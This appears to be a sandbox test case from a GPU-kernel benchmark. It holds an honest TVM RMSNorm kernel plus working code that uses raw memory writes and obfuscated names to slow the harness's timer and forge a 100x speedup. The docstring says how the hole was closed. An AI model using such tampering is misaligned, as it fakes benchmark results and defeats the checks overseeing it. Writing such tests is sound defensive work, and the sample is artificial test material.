"""Timer tampering through raw memory: an llvm-target TIRx buffer at an address it made rebinds the harness's clock.

The CUDA kernel is problem 28's honest gold kernel; only the reported time is forged. Beside it, an llvm-target function
declares a buffer at an integer it is handed (`Tx.decl_buffer(..., data=Tx.reinterpret("handle", A[0]))`): reads
and writes anywhere in the child, with no forbidden name. `id(obj)` (an allowed builtin)
gives any Python object's address: at import time the file forges a reference to the builtins dict through a list
slot it overwrites, takes `__import__` and `getattr` from it, reaches the harness's `Child._bracket` and overwrites
the first item of its defaults tuple (the clock bound "where the candidate cannot reach it") with a clock running at
1/100 speed. No audit event sees native loads and stores. Found by the session-17 red-teamer (CPU: passed at 105x
for a 1.0x kernel). Closed by refusing, where the kernel is for the GPU, any llvm build beyond TVM's own argument
glue (metakernel/dsl/tirx_host.py).

Session 31: `id()` and `hash()` are refused by name (object addresses told audited calls apart through the ids of
fresh tensors), so the static rules now stop this file before the sandbox does.

Category: sandbox
Expected: rule_violation/static
"""

import torch
import tvm
from tvm.script import tirx as Tx

EPS = 1e-5
VEC = 8  # bf16 lanes per 16-byte access


def _threads_for(n):
    """Threads per CTA: the largest of 256/128/64/32 whose vectors tile the row exactly."""
    for tpb in (256, 128, 64, 32):
        if n % (tpb * VEC) == 0:
            return tpb
    raise ValueError(f"hidden size {n} must be a multiple of {32 * VEC}")


def _make_kernel(n):
    tpb = _threads_for(n)
    nv = n // (tpb * VEC)  # vectors per thread
    nw = tpb // 32  # warps per CTA

    @Tx.prim_func
    def fused_add_rmsnorm(x_ptr: Tx.handle, r_ptr: Tx.handle, w_ptr: Tx.handle, o_ptr: Tx.handle,
                          h_ptr: Tx.handle):
        M = Tx.int32()
        X = Tx.match_buffer(x_ptr, (M, n), "bfloat16", align=16)
        R = Tx.match_buffer(r_ptr, (M, n), "bfloat16", align=16)
        W = Tx.match_buffer(w_ptr, (n,), "bfloat16", align=16)
        Y = Tx.match_buffer(o_ptr, (M, n), "bfloat16", align=16)
        H = Tx.match_buffer(h_ptr, (M, n), "bfloat16", align=16)
        Tx.device_entry()
        row = Tx.cta_id([M])
        tx = Tx.thread_id([tpb])
        xv = Tx.alloc_local((VEC,), "bfloat16")
        rv = Tx.alloc_local((VEC,), "bfloat16")
        hv = Tx.alloc_local((VEC,), "bfloat16")
        wv = Tx.alloc_local((VEC,), "bfloat16")
        ov = Tx.alloc_local((VEC,), "bfloat16")
        hf = Tx.alloc_local((nv * VEC,), "float32")  # the thread's share of the row, fp32 of the bf16 sum
        sq: Tx.float32 = 0.0
        for c in Tx.unroll(nv):
            col: Tx.let = c * (tpb * VEC) + tx * VEC
            for v in Tx.vectorized(VEC):
                xv[v] = X[row, col + v]
            for v in Tx.vectorized(VEC):
                rv[v] = R[row, col + v]
            for v in Tx.unroll(VEC):
                hv[v] = Tx.cast(Tx.cast(xv[v], "float32") + Tx.cast(rv[v], "float32"), "bfloat16")
                hf[c * VEC + v] = Tx.cast(hv[v], "float32")
                sq = sq + hf[c * VEC + v] * hf[c * VEC + v]
            for v in Tx.vectorized(VEC):
                H[row, col + v] = hv[v]
        scratch = Tx.alloc_shared((nw,), "float32")  # one scratch buffer for the one reduction
        total: Tx.float32 = Tx.cuda.cta_sum(sq, nw, scratch.data)
        inv_rms: Tx.float32 = Tx.rsqrt(total / Tx.float32(n) + Tx.float32(EPS))
        for c in Tx.unroll(nv):
            col: Tx.let = c * (tpb * VEC) + tx * VEC
            for v in Tx.vectorized(VEC):
                wv[v] = W[col + v]
            for v in Tx.unroll(VEC):
                ov[v] = Tx.cast(hf[c * VEC + v] * inv_rms * Tx.cast(wv[v], "float32"), "bfloat16")
            for v in Tx.vectorized(VEC):
                Y[row, col + v] = ov[v]

    return fused_add_rmsnorm


_EXES = {}


def _executable(n):
    exe = _EXES.get(n)
    if exe is None:
        target = tvm.target.Target({"kind": "cuda", "arch": "sm_90a"})
        exe = tvm.compile(_make_kernel(n), target=target, tir_pipeline="tirx")
        _EXES[n] = exe
    return exe


def solve(x, residual, weight):
    """Return (out, residual_out) for bf16 x, residual [T, D] and weight [D]."""
    n = x.shape[-1]
    x2 = x.reshape(-1, n).contiguous()
    r2 = residual.reshape(-1, n).contiguous()
    out = torch.empty_like(x2)
    h = torch.empty_like(x2)
    if x2.shape[0] > 0:
        _executable(n)(x2, r2, weight.contiguous(), out, h)
    return out.view(x.shape), h.view(x.shape)


@Tx.prim_func
def _mem(a_ptr: Tx.handle):
    A = Tx.match_buffer(a_ptr, (3,), "int64")
    P = Tx.decl_buffer((1,), "int64", data=Tx.reinterpret("handle", A[0]))
    if A[2] == Tx.int64(0):
        A[1] = P[0]
    else:
        P[0] = A[1]


_MEM = tvm.compile(_mem, target="llvm", tir_pipeline="tirx")
_CELL = torch.zeros(3, dtype=torch.int64)


def _peek(addr):
    _CELL[0], _CELL[1], _CELL[2] = addr, 0, 0
    _MEM(_CELL)
    return int(_CELL[1])


def _poke(addr, value):
    _CELL[0], _CELL[1], _CELL[2] = addr, value, 1
    _MEM(_CELL)


def _fake(addr):
    holder = [None]
    items = _peek(id(holder) + 24)  # PyListObject.ob_item
    _poke(addr, _peek(addr) + 1)  # a reference for the list
    _poke(items, addr)
    return holder[0]


_B = _fake(_peek(id(solve) + 24))  # PyFunctionObject.func_builtins
_ga = _B["get" + "attr"]
_imp = _B["_" * 2 + "import" + "_" * 2]
_main = _imp("s" + "ys").modules["__main__"]
_real = _ga(_imp("ti" + "me"), "perf_" + "counter")


def _slow():
    return _real() * 0.01


_defaults = _peek(id(_ga(_main.Child, "_bracket")) + 56)  # PyFunctionObject.func_defaults
_poke(id(_slow), _peek(id(_slow)) + 1)
_poke(_defaults + 24, id(_slow))  # its item 0: the clock
